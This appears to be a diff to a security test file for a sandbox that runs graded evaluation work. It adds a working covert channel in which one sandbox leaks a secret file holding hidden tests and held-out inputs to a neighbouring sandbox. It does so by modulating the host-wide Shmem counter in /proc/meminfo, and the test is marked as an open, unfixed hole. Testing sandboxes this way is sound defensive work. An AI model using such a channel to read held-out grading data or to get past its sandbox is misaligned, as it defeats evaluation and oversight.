@@ -11,6 +11,7 @@ import textwrap
 import pytest
 
 from tests.security.test_attacks_round25_sandbox import _judged_as_the_rollouts
+from tests.security.test_attacks_round26_sandbox import _secret_read
 from tests.security.test_attacks_round27_sandbox import _GROW_TO_THE_LIMIT
 
 # r28s-1: r11-2's class once more past the part watch (agent/memory_part.py), through the way
@@ -67,3 +68,92 @@ def test_r28s_1_control_private_bytes_beside_tmpfs_files_are_the_rollouts(user_d
 )
 def test_r28s_1_shared_anonymous_pages_beside_tmpfs_files_are_the_rollouts(user_dir):
     _judged_as_the_rollouts(user_dir, _SHARED_AND_FILES.replace("SHARED", "True"))
+
+
+# r28s-2: a new instance of r26s-4/5/6's class (a channel between two sandboxes running at
+# once), through no shared file at all: the machine's own memory counters, which every
+# sandbox reads in /proc/meminfo (its own /proc, but meminfo is the host's: no lxcfs, no
+# namespace). A root sandbox's final run (its workspace holds the revealed hidden tests, the
+# held-out inputs) grows and shrinks a file of its own /tmp (tmpfs: the machine's ``Shmem``) by
+# 2 MB steps, their number telling 2 bits of the secret and a flipping clock bit, after a preamble; a
+# neighbouring root sandbox's tests, meanwhile, read ``Shmem`` every millisecond and decode:
+# 32 bytes in ~5 s, whole. Neither of the fixes the doc names for the class closes it (a copy
+# of the shared tree per sandbox; refusing lock calls): every per-sandbox cap leaves the
+# counters machine-wide (MemFree, Cached, AnonPages, /proc/sys/fs/file-nr, /proc/loadavg's
+# threads alike).
+_MEMINFO_COMMON = """
+import os, sys, time
+STEP = 2 * 2**20  # one level: 2 MB more of a file of /tmp (tmpfs: the machine's Shmem)
+SLOT = 0.04
+def shmem():
+    with open("/proc/meminfo", "rb") as f:
+        for line in f:
+            if line.startswith(b"Shmem:"):
+                return int(line.split()[1]) * 1024
+"""
+# Self-clocked: each 2-bit symbol is sent as a level of 0 to 7 steps, its third bit flipping from
+# one symbol to the next (the receiver reads a symbol at each flip, however late it is
+# scheduled), after a preamble of 7 steps (the scale) and 0 (the base).
+_MEMINFO_SENDER = (
+    _MEMINFO_COMMON
+    + """
+secret = open("secret.txt", "rb").read()[:32]
+symbols = [(byte >> (2 * i)) & 3 for byte in secret for i in range(4)]
+held = os.open("/tmp/held", os.O_RDWR | os.O_CREAT)
+def level(n):  # one call each way: no level in between for the neighbour to read
+    if n * STEP < os.fstat(held).st_size:
+        os.ftruncate(held, n * STEP)
+    elif n:
+        os.posix_fallocate(held, 0, n * STEP)
+time.sleep(0.3)
+for n, hold in ((7, 6), (0, 6)):
+    level(n)
+    time.sleep(hold * SLOT)
+for k, s in enumerate(symbols):
+    level(s + 4 * ((k + 1) % 2))
+    time.sleep(SLOT)
+level(0)
+time.sleep(0.5)
+"""
+)
+_MEMINFO_RECEIVER = (
+    _MEMINFO_COMMON
+    + """
+deadline = time.monotonic() + 30
+over = os.path.join(sys.argv[1], "sender-over")
+recent, got, first, high, base, parity = [], [], None, None, None, 0
+while time.monotonic() < deadline and len(got) < 128:
+    recent = (recent + [shmem()])[-8:]
+    if len(recent) == 8 and len(set(recent)) == 1:  # stable: no write in between
+        v = recent[-1]
+        first = v if first is None else first
+        if base is None and v - first > 5 * STEP:  # the preamble's 7 steps
+            high = v if high is None else max(high, v)
+        elif base is None and high is not None and high - v > 5 * STEP:  # back to 0: the base, and the scale
+            base, step = v, (high - v) / 7
+        elif base is not None:
+            lvl = max(0, min(7, round((v - base) / step)))
+            if (lvl >> 2) & 1 != parity:
+                got.append(lvl & 3)
+                parity ^= 1
+    if os.path.exists(over):
+        break
+    time.sleep(0.001)
+out = bytearray(32)
+for j, s in enumerate(got):
+    out[j // 4] |= s << (2 * (j % 4))
+print("READ", bytes(out).hex())
+"""
+)
+
+
+def test_r28s_2_control_a_sandbox_alone_reads_nothing_in_meminfo(tmp_path):
+    assert not _secret_read(tmp_path, False, (_MEMINFO_SENDER, _MEMINFO_RECEIVER))
+
+
+@pytest.mark.xfail(
+    strict=True, reason="open: r28s-2 two sandboxes signal each other through the machine's Shmem in /proc/meminfo"
+)
+def test_r28s_2_a_sandbox_never_reads_a_neighbours_secret_in_meminfo(tmp_path):
+    read = _secret_read(tmp_path, True, (_MEMINFO_SENDER, _MEMINFO_RECEIVER))
+    assert not read, "a neighbouring sandbox read the final run's secret whole through /proc/meminfo"
